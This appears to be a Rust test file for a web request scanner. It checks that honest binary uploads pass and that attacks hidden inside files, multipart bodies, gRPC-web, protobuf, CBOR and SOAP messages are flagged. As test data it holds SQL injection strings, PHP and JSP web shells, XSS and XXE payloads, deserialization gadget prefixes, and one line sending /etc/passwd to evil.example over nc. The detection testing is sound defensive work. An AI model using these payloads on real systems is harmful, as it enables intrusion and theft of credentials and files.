//! Bodies and files that are no text: honest ones pass, and nothing that some reader would run, unpack or take for text passes as one.

use portcullis_payload::arguments::{self, Request};
use portcullis_payload::{Scanner, Scratch, Settings, Verdict};

#[path = "../../../tests/src/files.rs"]
#[allow(clippy::unreadable_literal)]
mod files;

use files::{GZIP, PDF, PNG, ZIP};

const FORM: &str = "application/x-www-form-urlencoded";
const ATTACK: &[u8] = b"1' union select password from users-- ";
const SHELL: &[u8] = b"<?php system($_GET['c']); ?>";

const FILES: [(&str, &[u8]); 6] = [
    ("image/png", PNG),
    ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", ZIP),
    ("application/pdf", PDF),
    ("application/gzip", GZIP),
    ("application/octet-stream", PNG),
    ("application/octet-stream", NOISE),
];

/// No known format, as what is encrypted.
const NOISE: &[u8] = b"\x93\x02\0\xfe'1=\x07--\xee\0\x81'or\xff\x05#;\x90|\0\xd0\xc3\x28%\x9a\x01\xf0\xb1\0\x84\x1d\xd2\x99\x13\xa7\0\xe9\x88";

#[allow(clippy::unwrap_used)]
fn inspected(headers: &[(&str, &str)], body: &[u8]) -> Verdict {
    let scanner = Scanner::new().unwrap();
    let (settings, mut scratch) = (Settings::default(), Scratch::default());
    let headers: Vec<(&[u8], &[u8])> = headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())).collect();
    let mut inspection = scanner.begin(&settings, &mut scratch);
    arguments::inspect(&Request { method: b"POST", target: b"/", headers: &headers, body }, &mut inspection);
    inspection.finish()
}

fn posted(kind: &str, body: &[u8]) -> Verdict {
    inspected(&[("content-type", kind)], body)
}

/// Beside a text field, with or without a type of its own.
fn uploaded(kind: Option<&str>, content: &[u8], text: &str) -> Verdict {
    let kind = kind.map(|kind| format!("Content-Type: {kind}\r\n")).unwrap_or_default();
    let body = [
        format!("--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{text}\r\n").as_bytes(),
        format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n{kind}\r\n").as_bytes(),
        content,
        b"\r\n--b--\r\n",
    ]
    .concat();
    posted("multipart/form-data; boundary=b", &body)
}

fn is_attack(verdict: &Verdict) -> bool {
    verdict.worst().is_some_and(|(_, score)| score >= 5)
}

fn found(verdict: &Verdict) -> Vec<&str> {
    verdict.findings().iter().map(|f| f.by.as_str()).collect()
}

#[test]
fn honest_files_have_no_findings() {
    for (kind, file) in FILES {
        for verdict in [
            posted(kind, file),
            inspected(&[], file),
            uploaded(Some(kind), file, "it's fine"),
            uploaded(None, file, "it's fine"),
            // Cut off.
            posted(kind, file.get(..file.len() / 2).unwrap_or(file)),
            // Under a type that says nothing of it.
            posted("application/vnd.example.thing", file),
        ] {
            assert!(verdict.is_clean(), "{kind} {file:?}: {:?}", found(&verdict));
        }
    }
}

#[test]
fn beside_a_file_fields_are_judged() {
    let attack = String::from_utf8_lossy(ATTACK);
    for (kind, file) in FILES {
        assert!(is_attack(&uploaded(Some(kind), file, &attack)), "{kind}");
        assert!(is_attack(&uploaded(None, file, &attack)), "{kind}");
    }
    // What is no file is a field, whatever it holds and says.
    for head in [
        "name=\"f\"",
        "name=\"f\"; filename=\"\"",
        "name=\"f\"; Filename=\"a\"",
        "name=\"f\"; filename*=utf-8''a",
        "name*=utf-8''f",
    ] {
        for kind in ["", "Content-Type: image/png\r\n"] {
            let start = format!("--b\r\nContent-Disposition: form-data; {head}\r\n{kind}\r\n");
            let body = [start.as_bytes(), PNG, ATTACK, b"\r\n--b--\r\n"].concat();
            assert!(is_attack(&posted("multipart/form-data; boundary=b", &body)), "{head} {kind}");
        }
    }
}

#[test]
fn a_file_that_is_also_code_is_found() {
    for (kind, file) in FILES {
        for code in [
            SHELL,
            b"<?= `id`; echo 1 ?>",
            b"<? system($_GET[0]); ?>",
            b"<%@ page import=\"java.util.*\" %>",
            b"<% eval request(\"x\") %>",
            b"<jsp:scriptlet>x</jsp:scriptlet>",
            b"<script runat=\"server\">",
            b"<SCRIPT language=php>",
        ] {
            let polyglot = [file, code].concat();
            assert!(is_attack(&posted(kind, &polyglot)), "{kind} {code:?}");
            assert!(is_attack(&uploaded(Some(kind), &polyglot, "1")), "{kind} {code:?}");
            assert!(is_attack(&uploaded(None, &polyglot, "1")), "{kind} {code:?}");
        }
    }
    // Far behind the beginning of a picture too, as in the comment of a camera.
    let far = [PNG, &[0x90; 5000], SHELL].concat();
    assert!(is_attack(&posted("image/png", &far)) && is_attack(&uploaded(Some("image/png"), &far, "1")));
    // What a browser would take for a page.
    for markup in [&b"<script>alert(1)</script>"[..], b"<svg onload=alert(1)>", b"<!DOCTYPE html>", b"<HTML>"] {
        assert!(is_attack(&posted("image/gif", &[b"GIF89a\x01\0\x01\0", markup].concat())), "{markup:?}");
    }
    // XMP, as cameras and editors write it.
    let xmp =
        b"<?xpacket begin=\"\xef\xbb\xbf\" id=\"W5M0\"?><x:xmpmeta xmlns:x=\"adobe:ns:meta/\"/><?xpacket end=\"w\"?>";
    assert!(posted("image/png", &[PNG, xmp].concat()).is_clean());
}

#[test]
fn objects_that_are_unpacked_are_found() {
    for object in [
        &b"\xac\xed\0\x05sr\0\x11java.util.HashSet"[..],
        b"\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0",
        b"\x04\x08o:\x08Gem\x06",
        b"\x80\x04\x95\x1f\0\0\0\0\0\0\0\x8c\x08builtins\x94\x8c\x04eval\x94\x93\x94.",
    ] {
        for kind in ["application/octet-stream", "image/png", "application/x-java-serialized-object"] {
            assert!(is_attack(&posted(kind, object)), "{kind} {object:?}");
            assert!(is_attack(&uploaded(Some(kind), object, "1")), "{kind} {object:?}");
        }
    }
}

#[test]
fn text_is_none_the_less_text_under_the_type_of_a_picture() {
    let types = ["image/png", "application/octet-stream", "application/x-protobuf", "application/zip", "font/woff", ""];
    for kind in types {
        for body in [
            &b"q=1'+union+select+password+from+users--+"[..],
            b"q=1%27+union+select+password+from+users--+",
            b"\0q=1' union select password from users-- ",
            b"\0\0\0\0{\"q\": \"1' union select password from users-- \"}",
            b"{\"\xff\": 1, \"q\": \"1' union select password from users-- \"}",
            b"{\"\0\": 1, \"q\": \"1' union select password from users-- \"}",
            b"[\"\x01\xfe\xfd\", \"1' union select password from users-- \"]",
            b" {'a\xff': '1\\' union select password from users-- '}",
            b"\"\xff 1' union select password from users-- \"",
            b"\xef\xbb\xbf{\"\xff\": \"1' union select password from users-- \"}",
            b"<a>\xff<b>1' union select password from users-- </b></a>",
            b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>\xff&x;</r>",
            b"1' union select password from users-- \xff\xfe\0",
            b"GIF89a; cat /etc/passwd | nc evil.example 4444",
            b"BZh1' union select password from users-- ",
            b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0a\0l\0e\0r\0t\0(\x001\0)\0",
            b"{\0\"\0q\0\"\0:\0\"\0<\0s\0c\0r\0i\0p\0t\0>\0\"\0}\0",
        ] {
            assert!(is_attack(&posted(kind, body)), "{kind} {}", String::from_utf8_lossy(body));
        }
    }
}

#[test]
fn what_a_careless_reader_of_forms_would_read_in_data_is_judged() {
    for (kind, file) in FILES {
        for pair in [
            &b"&q=1' union select password from users-- "[..],
            b"&q=1%27+union+select+password+from+users--+&a=1",
            b"&user[name]=%3Cscript%3Ealert(1)%3C/script%3E",
            b"&q=\xff\xfe; cat /etc/passwd\0&",
        ] {
            assert!(is_attack(&posted(kind, &[file, pair].concat())), "{kind} {}", String::from_utf8_lossy(pair));
        }
        assert!(posted(kind, &[file, b"&q=O'Brien+%26+Sons&b=1"].concat()).is_clean(), "{kind}");
    }
}

#[test]
fn a_text_by_its_type_is_judged_as_one_whatever_it_holds() {
    for kind in
        [FORM, "application/json", "text/plain", "application/xml", "text/html", "application/graphql", "image/svg+xml"]
    {
        for file in [PNG, ZIP, NOISE] {
            assert!(is_attack(&posted(kind, file)), "{kind} {file:?}");
        }
    }
    for kind in ["text/plain", "application/json", "text/csv"] {
        assert!(is_attack(&uploaded(Some(kind), PNG, "1")), "{kind}");
    }
}

#[test]
fn texts_in_messages_of_other_formats_are_judged() {
    // CBOR: {"id": 0, "q": ...}.
    let cbor = |text: &[u8]| [&b"\xa2\x62id\0\x61q\x78"[..], &[u8::try_from(text.len()).unwrap_or(0)], text].concat();
    for kind in ["application/cbor", "application/octet-stream"] {
        assert!(is_attack(&posted(kind, &cbor(ATTACK))), "{kind}");
        let verdict = posted(kind, &cbor(b"O'Brien & Sons -- tea"));
        assert!(verdict.is_clean(), "{kind}: {:?}", found(&verdict));
    }
}

/// A field of a message that holds text.
fn field(number: u8, content: &[u8]) -> Vec<u8> {
    [&[number << 3 | 2, u8::try_from(content.len()).unwrap_or(0)][..], content].concat()
}

fn frame(flag: u8, message: &[u8]) -> Vec<u8> {
    [&[flag][..], &u32::try_from(message.len()).unwrap_or(0).to_be_bytes(), message].concat()
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.chunks(3) {
        let byte = |i: usize| u32::from(three.get(i).copied().unwrap_or(0));
        let bits = byte(0) << 16 | byte(1) << 8 | byte(2);
        for i in 0..4 {
            let digit = DIGITS.get((bits >> (18 - 6 * i) & 63) as usize).copied().unwrap_or(b'A');
            text.push(if i <= three.len() { char::from(digit) } else { '=' });
        }
    }
    text
}

#[test]
fn calls_of_grpc_web_are_read() {
    let names = |verdict: &Verdict| verdict.findings().iter().map(|f| f.name.clone()).collect::<Vec<_>>();
    let honest = [field(1, b"O'Brien & Sons"), field(2, b"\0\x01\x02\0"), b"\x18\0".to_vec()].concat();
    let evil = [field(1, b"tea"), field(3, &field(2, ATTACK))].concat();
    for kind in ["application/grpc-web", "application/grpc-web+proto", "application/grpc-web; charset=utf-8"] {
        let verdict = posted(kind, &frame(0, &honest));
        assert!(verdict.is_clean(), "{kind}: {:?}", found(&verdict));
        let verdict = posted(kind, &frame(0, &evil));
        assert!(is_attack(&verdict) && names(&verdict).contains(&b"3.2".to_vec()), "{kind}: {:?}", found(&verdict));
        for body in [
            [frame(0, &honest), frame(0, &evil)].concat(),
            frame(0, &evil).get(..40).unwrap_or_default().to_vec(),
            frame(1, b"\x1f\x8b\x08\0"),
            frame(0x80, b"x: <script>alert(1)</script>\r\n"),
            b"q=1'+union+select+password+from+users--+".to_vec(),
            [frame(0, b"\x0a\x01\xff"), b"&q=1'+union+select+password+from+users--+".to_vec()].concat(),
        ] {
            assert!(is_attack(&posted(kind, &body)), "{kind} {body:?}");
        }
    }
    for kind in ["application/grpc-web-text", "application/grpc-web-text+proto"] {
        let verdict = posted(kind, base64(&frame(0, &honest)).as_bytes());
        assert!(verdict.is_clean(), "{kind}: {:?}", found(&verdict));
        // In pieces, each with its padding.
        let (whole, far) = (frame(0, &evil), frame(0, &[&field(1, b"tea")[..], &field(2, ATTACK)].concat()));
        let (first, second) = far.split_at(7);
        for body in [base64(&whole), base64(first) + &base64(second)] {
            assert!(is_attack(&posted(kind, body.as_bytes())), "{kind} {body}");
        }
        assert!(is_attack(&posted(kind, b"q=<script>alert(1)</script>")));
    }
    let json = |text: &str| posted("application/grpc-web+json", &frame(0, text.as_bytes()));
    assert!(json("{\"a\": \"it's fine\"}").is_clean());
    assert!(is_attack(&json("{\"a\": \"1' union select password from users-- \"}")));
}

#[test]
fn messages_of_protocol_buffers_are_read_outside_of_grpc() {
    for kind in ["application/x-protobuf", "application/protobuf", "application/x-protobuf; messageType=a.B"] {
        let honest =
            [field(1, b"O'Brien & Sons"), field(2, b"\x08\0\x10\x01"), b"\x18\0".to_vec(), field(4, PNG)].concat();
        let verdict = posted(kind, &honest);
        assert!(verdict.is_clean(), "{kind}: {:?}", found(&verdict));
        for body in [
            [field(1, b"tea\x01"), field(2, &field(1, ATTACK))].concat(),
            [field(1, ATTACK), b"\x12\x20ab\0".to_vec()].concat(),
            field(1, b"report.php\0.pdf"),
            field(1, &[&[0; 60][..], ATTACK].concat()),
            // A message to one reader, a form to another.
            [b"\x0a\x01\xff\x0a\x2b\xff&q=".to_vec(), b"1'+union+select+password+from+users--".to_vec()].concat(),
        ] {
            assert!(is_attack(&posted(kind, &body)), "{kind} {}", String::from_utf8_lossy(&body));
        }
    }
}

#[test]
fn attachments_of_a_soap_message_are_files() {
    let kind = "multipart/related; type=\"application/xop+xml\"; start=\"<a@b>\"; start-info=\"text/xml\"; boundary=\"uuid:7\"";
    let message = |text: &str, attached: &[u8]| {
        let start = format!(
            "--uuid:7\r\nContent-Type: application/xop+xml; charset=UTF-8; type=\"text/xml\"\r\nContent-Transfer-Encoding: binary\r\n\
             Content-ID: <a@b>\r\n\r\n<Envelope><Body><note>{text}</note></Body></Envelope>\r\n\
             --uuid:7\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: binary\r\nContent-ID: <c@b>\r\n\r\n"
        );
        [start.as_bytes(), attached, b"\r\n--uuid:7--"].concat()
    };
    let verdict = posted(kind, &message("it's fine", PNG));
    assert!(verdict.is_clean(), "{:?}", found(&verdict));
    assert!(is_attack(&posted(kind, &message("1' union select password from users-- ", PNG))));
    assert!(is_attack(&posted(kind, &message("1", &[PNG, SHELL].concat()))));
    assert!(is_attack(&posted("multipart/form-data; type=\"text/xml\"; boundary=b", b"--b--")));
}
